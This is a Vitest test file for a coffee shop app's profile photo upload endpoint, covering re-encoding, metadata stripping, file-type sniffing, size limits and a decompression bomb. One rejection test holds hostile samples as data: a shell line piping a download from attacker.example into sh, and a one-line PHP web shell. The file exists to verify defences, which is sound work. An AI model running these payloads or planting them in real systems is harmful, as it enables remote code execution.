import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { User } from '@coffee/contracts/auth';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type AccountsContext,
  call,
  createAccountsApp,
  expectError,
  type Shopper,
  signUp,
} from './support/accounts.js';

const coffee = { r: 111, g: 78, b: 55 };
const png = (width = 800, height = 600) =>
  sharp({ create: { width, height, channels: 3, background: coffee } })
    .png()
    .toBuffer();
const jpegWithExif = () =>
  sharp({ create: { width: 1024, height: 768, channels: 3, background: coffee } })
    .jpeg()
    .withExif({ IFD0: { Copyright: 'secret-owner', ImageDescription: 'taken at home, 30.0444 N 31.2357 E' } })
    .toBuffer();
/** Random pixels do not compress: a PNG of about this many bytes. */
const noisePng = (side: number) =>
  sharp(Buffer.from(Array.from({ length: side * side * 3 }, () => Math.floor(Math.random() * 256))), {
    raw: { width: side, height: side, channels: 3 },
  })
    .png({ compressionLevel: 0 })
    .toBuffer();

function photoForm(bytes: Buffer, filename: string, type: string, fields: Record<string, string> = {}) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  form.append('photo', new Blob([new Uint8Array(bytes)], { type }), filename);
  return form;
}

describe('profile photo upload', () => {
  let ctx: AccountsContext;
  let shopper: Shopper;
  beforeAll(async () => {
    ctx = await createAccountsApp();
    shopper = await signUp(ctx.app);
  });
  afterAll(() => ctx.close());

  const upload = (form: FormData, lang = 'en-US', token = shopper.tokens.access_token) =>
    call<{ data: User }>(ctx.app, 'POST', '/auth/updateProfile', { body: form, token, query: { lang } });
  const fileOf = (avatar: string) => path.join(ctx.config.mediaDir, avatar.replace(/^\/media\//, ''));
  const currentAvatar = async () =>
    (await call<{ data: User }>(ctx.app, 'GET', '/auth/me', { token: shopper.tokens.access_token })).body.data
      .avatar;

  it('takes a real PNG, re-encodes it as a 512×512 WebP under a new name, and serves it', async () => {
    const answer = await upload(photoForm(await png(), 'me.png', 'image/png', { first_name: 'Salma' }));
    expect(answer.status).toBe(200);
    expect(answer.body.data.first_name).toBe('Salma');
    const avatar = answer.body.data.avatar!;
    expect(avatar).toMatch(/^\/media\/avatars\/[0-9a-f-]{36}\.webp$/);
    const meta = await sharp(await readFile(fileOf(avatar))).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 512, height: 512 });
    const served = await ctx.app.inject({ method: 'GET', url: avatar });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
  });

  it('takes a JPEG, strips its metadata and deletes the photo it replaces', async () => {
    const before = await currentAvatar();
    const original = await jpegWithExif();
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const answer = await upload(photoForm(original, 'IMG_0001.JPG', 'image/jpeg'));
    expect(answer.status).toBe(200);
    const stored = await readFile(fileOf(answer.body.data.avatar!));
    const meta = await sharp(stored).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 512, height: 512 });
    expect(meta.exif).toBeUndefined();
    expect(stored.includes(Buffer.from('secret-owner'))).toBe(false);
    expect(before && existsSync(fileOf(before))).toBe(false);
  });

  it('judges by bytes: a PNG named photo.pdf and sent as application/pdf is a PNG', async () => {
    const answer = await upload(photoForm(await png(300, 300), 'photo.pdf', 'application/pdf'));
    expect(answer.status).toBe(200);
    expect(answer.body.data.avatar).toMatch(/\.webp$/);
  });

  it('refuses a PDF named .jpg, a script named .jpg and a PNG header over garbage, keeping the photo', async () => {
    const before = await currentAvatar();
    const pdf = Buffer.from(
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
    );
    const script = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');
    const php = Buffer.from('<?php system($_GET["c"]); ?>');
    const fakePng = Buffer.concat([(await png()).subarray(0, 16), Buffer.alloc(2048, 0x41)]);
    const fakeJpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), script]);
    for (const [bytes, name] of [
      [pdf, 'photo.jpg'],
      [script, 'photo.jpg'],
      [php, 'avatar.jpeg'],
      [fakePng, 'photo.png'],
      [fakeJpeg, 'photo.jpg'],
    ] as const) {
      const answer = await upload(photoForm(bytes, name, 'image/jpeg'));
      expect(expectError(answer, 422, 'UNSUPPORTED_FILE_TYPE').message).toBe(
        'The photo must be a JPG or PNG image.',
      );
    }
    const arabic = await upload(photoForm(script, 'photo.jpg', 'image/jpeg'), 'ar-SA');
    expectError(arabic, 422, 'UNSUPPORTED_FILE_TYPE', 'ar-SA');
    expect(await currentAvatar()).toBe(before);
  });

  it('refuses a 6 MB file with the spec message, in both languages', async () => {
    const before = await currentAvatar();
    const big = Buffer.concat([await png(), Buffer.alloc(6 * 1024 * 1024, 0)]);
    const english = expectError(await upload(photoForm(big, 'big.png', 'image/png')), 413, 'FILE_TOO_LARGE');
    expect(english.message).toBe('The file size exceeds the maximum limit of 5 MB');
    const arabic = await upload(photoForm(big, 'big.png', 'image/png'), 'ar-SA');
    expect(expectError(arabic, 413, 'FILE_TOO_LARGE', 'ar-SA').message).toBe(
      'حجم الملف يتجاوز الحد الأقصى البالغ ٥ ميجابايت',
    );
    expect(await currentAvatar()).toBe(before);
  });

  it('refuses a decompression bomb: a small file that decodes to more than 40 megapixels', async () => {
    const bomb = await sharp({ create: { width: 8000, height: 6000, channels: 3, background: coffee } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expectError(await upload(photoForm(bomb, 'tiny.png', 'image/png')), 422, 'UNSUPPORTED_FILE_TYPE');
  });

  it('takes a photo just under 5 MB', async () => {
    const bytes = await noisePng(1270);
    expect(bytes.length).toBeGreaterThan(4.5 * 1024 * 1024);
    expect(bytes.length).toBeLessThan(5 * 1024 * 1024);
    expect((await upload(photoForm(bytes, 'noise.png', 'image/png'))).status).toBe(200);
  });

  it('takes one file, named photo, and validates the text fields like the JSON form', async () => {
    const other = new FormData();
    other.append('document', new Blob([new Uint8Array(await png())], { type: 'image/png' }), 'a.png');
    expectError(await upload(other), 400, 'UNEXPECTED_FILE');
    const badField = photoForm(await png(), 'me.png', 'image/png', { mobile: '123' });
    expectError(await upload(badField), 400, 'VALIDATION_ERROR');
    // A form without a chosen file (browsers send an empty part) changes only the fields.
    const before = await currentAvatar();
    const emptyFile = photoForm(Buffer.alloc(0), '', 'application/octet-stream', { last_name: 'Adel' });
    const answer = await upload(emptyFile);
    expect(answer.status).toBe(200);
    expect(answer.body.data).toMatchObject({ last_name: 'Adel', avatar: before });
  });

  it('needs a signed-in shopper before it reads any of the upload', async () => {
    const answer = await call(ctx.app, 'POST', '/auth/updateProfile', {
      body: photoForm(await png(), 'me.png', 'image/png'),
    });
    expectError(answer, 401, 'UNAUTHENTICATED');
  });
});

describe('profile photo upload while the disk refuses files', () => {
  let ctx: AccountsContext;
  let shopper: Shopper;
  let dataDir: string;
  beforeAll(async () => {
    dataDir = mkdtempSync(path.join(os.tmpdir(), 'coffee-uploads-'));
    ctx = await createAccountsApp({ env: { DATA_DIR: dataDir } });
    shopper = await signUp(ctx.app);
  });
  afterAll(async () => {
    await ctx.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  const upload = (lang: string) =>
    call<{ data: User }>(ctx.app, 'POST', '/auth/updateProfile', {
      body: photoForm(Buffer.from([]), '', 'application/octet-stream'),
      token: shopper.tokens.access_token,
      query: { lang },
    });

  it('answers 503 "try again later" in the shopper\'s language, changes nothing, and takes the photo once it can', async () => {
    const avatars = path.join(ctx.config.mediaDir, 'avatars');
    mkdirSync(ctx.config.mediaDir, { recursive: true });
    // A folder the disk cannot write into, for root as well (chmod does not stop root): it lies under a file.
    const blocker = path.join(dataDir, 'not-a-folder');
    writeFileSync(blocker, '');
    symlinkSync(path.join(blocker, 'avatars'), avatars);
    const send = async (lang: string) => {
      const form = photoForm(await png(), 'me.png', 'image/png', { first_name: 'Nour' });
      return call<{ data: User }>(ctx.app, 'POST', '/auth/updateProfile', {
        body: form,
        token: shopper.tokens.access_token,
        query: { lang },
      });
    };
    const english = expectError(await send('en-US'), 503, 'STORAGE_UNAVAILABLE');
    expect(english.message).toBe('We cannot store files right now. Please try again in a few minutes.');
    expectError(await send('ar-SA'), 503, 'STORAGE_UNAVAILABLE', 'ar-SA');
    const unchanged = await upload('en-US');
    expect(unchanged.status).toBe(200);
    expect(unchanged.body.data).toMatchObject({ avatar: null });
    expect(unchanged.body.data.first_name).not.toBe('Nour');

    unlinkSync(avatars);
    const taken = await send('en-US');
    expect(taken.status).toBe(200);
    expect(taken.body.data.first_name).toBe('Nour');
    expect(taken.body.data.avatar).toMatch(/^\/media\/avatars\/[0-9a-f-]{36}\.webp$/);
  });
});
